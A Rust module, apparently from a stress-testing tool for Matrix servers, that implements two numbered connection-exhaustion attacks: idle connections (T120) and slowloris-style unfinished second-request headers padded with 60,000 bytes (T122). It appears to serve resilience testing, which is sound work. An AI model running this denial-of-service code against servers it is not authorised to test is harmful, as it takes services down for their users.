//! Connections that send nothing or an unfinished request (T120, T122). Must not send a complete second request.

use anyhow::Result;
use futures_util::future::BoxFuture;

use super::{Attack, Course, Figures, Target, hold_connections};

/// T120: connections on which nothing is sent.
#[derive(Debug, Clone, Copy)]
pub struct Idle {
    /// Number of connections.
    pub connections: usize,
}

impl Attack for Idle {
    fn name(&self) -> &'static str {
        "T120 idle connections"
    }

    fn run<'a>(&'a self, target: &'a Target, course: Course) -> BoxFuture<'a, Result<Figures>> {
        Box::pin(hold_connections(target, course, self.connections, |_| Vec::new()))
    }
}

/// T122: after one complete request, the headers of the next are never finished.
#[derive(Debug, Clone, Copy)]
pub struct SlowHeaders {
    /// Number of connections.
    pub connections: usize,
}

impl Attack for SlowHeaders {
    fn name(&self) -> &'static str {
        "T122 unfinished headers of second requests"
    }

    fn run<'a>(&'a self, target: &'a Target, course: Course) -> BoxFuture<'a, Result<Figures>> {
        let head = b"GET /_matrix/client/versions HTTP/1.1\r\nhost: x\r\n".to_vec();
        let first = [head.as_slice(), b"\r\n"].concat();
        let second = [head.as_slice(), b"x-more: ", &[b'x'; 60_000]].concat();
        Box::pin(hold_connections(target, course, self.connections, move |_| {
            vec![first.clone(), second.clone()]
        }))
    }
}
